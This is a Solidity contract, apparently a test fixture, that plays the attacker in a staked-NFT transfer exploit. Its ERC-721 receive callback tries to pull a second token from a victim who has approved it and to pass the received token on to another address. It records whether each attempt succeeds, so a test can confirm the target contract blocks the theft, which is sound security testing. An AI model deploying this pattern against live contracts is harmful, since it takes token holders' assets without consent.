// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface ICulturePassTransfers {
    function transferFrom(address from, address to, uint256 tokenId) external;
    function safeTransferWhileStake(address from, address to, uint256 tokenId) external;
}

/**
 * @notice Attacker receiver for the Moonbirds staked-transfer hole. The victim approved it for
 *         all its tokens (as one approves a marketplace) and sends it one staked token with
 *         `safeTransferWhileStake`; inside `onERC721Received` it tries to pull another staked
 *         token of the victim, and optionally to move on the staked token it is receiving.
 *         Test use only.
 */
contract StakedTokenThief {
    ICulturePassTransfers public immutable pass;

    /// @notice Token the thief tries to pull from the victim during the callback.
    uint256 public targetTokenId;
    /// @notice When true the attempts bubble their revert (the whole transfer fails);
    ///         when false they are caught and recorded.
    bool public bubble;
    /// @notice Also try to move on the token being received, to `sink`, during the callback.
    bool public moveReceived;
    address public sink;

    bool public stolen;
    bool public movedReceived;
    bytes public stealError;
    bytes public moveError;
    uint256 public callbacks;

    constructor(address pass_) {
        pass = ICulturePassTransfers(pass_);
    }

    function configure(uint256 targetTokenId_, bool bubble_, bool moveReceived_, address sink_) external {
        targetTokenId = targetTokenId_;
        bubble = bubble_;
        moveReceived = moveReceived_;
        sink = sink_;
    }

    function onERC721Received(address, address from, uint256 tokenId, bytes calldata) external returns (bytes4) {
        callbacks++;
        if (bubble) {
            pass.transferFrom(from, address(this), targetTokenId);
            stolen = true;
        } else {
            try pass.transferFrom(from, address(this), targetTokenId) {
                stolen = true;
            } catch (bytes memory err) {
                stealError = err;
            }
            if (moveReceived) {
                try pass.transferFrom(address(this), sink, tokenId) {
                    movedReceived = true;
                } catch (bytes memory err) {
                    moveError = err;
                }
            }
        }
        return this.onERC721Received.selector;
    }
}
